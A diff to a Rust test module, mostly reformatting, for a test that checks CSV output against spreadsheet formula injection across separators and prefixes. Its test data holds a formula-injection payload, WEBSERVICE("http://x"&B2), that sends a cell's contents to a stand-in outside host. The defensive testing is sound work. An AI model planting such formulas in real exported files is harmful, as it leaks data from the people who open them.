@@ -78,14 +78,25 @@ mod tests {
 
     /// As a spreadsheet reads a line: what stands between separators, without the marks around it.
     fn cells(text: &str, separator: u8) -> Vec<String> {
-        let reader = ::csv::ReaderBuilder::new().delimiter(separator).flexible(true).has_headers(false).from_reader(text.as_bytes());
-        reader.into_records().flatten().flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>()).collect()
+        let reader = ::csv::ReaderBuilder::new()
+            .delimiter(separator)
+            .flexible(true)
+            .has_headers(false)
+            .from_reader(text.as_bytes());
+        reader
+            .into_records()
+            .flatten()
+            .flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>())
+            .collect()
     }
 
     #[test]
     fn no_cell_begins_a_formula_whatever_the_separator_is() {
         let dangerous = ["=", "+", "-", "@", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}"];
-        let before = ["", ";", ",", "|", "\t", "a;", "a, b|", "a;\"", "\"", "a\n", "a\r\n", " ", "a; ", ";\" \"", "\u{a0}", "\u{200b}", "a,\"b\";"];
+        let before = [
+            "", ";", ",", "|", "\t", "a;", "a, b|", "a;\"", "\"", "a\n", "a\r\n", " ", "a; ", ";\" \"",
+            "\u{a0}", "\u{200b}", "a,\"b\";",
+        ];
         for sign in dangerous {
             for before in before {
                 let cell = format!("{before}{sign}WEBSERVICE(\"http://x\"&B2);x");
@@ -93,7 +104,11 @@ mod tests {
                 for separator in [b',', b';', b'\t', b'|'] {
                     for cell in cells(&text, separator) {
                         let bare = cell.trim_start_matches([' ', '"']);
-                        assert!(!bare.starts_with(begins_formula), "{text:?} at {:?}: {cell:?}", char::from(separator));
+                        assert!(
+                            !bare.starts_with(begins_formula),
+                            "{text:?} at {:?}: {cell:?}",
+                            char::from(separator)
+                        );
                     }
                 }
             }
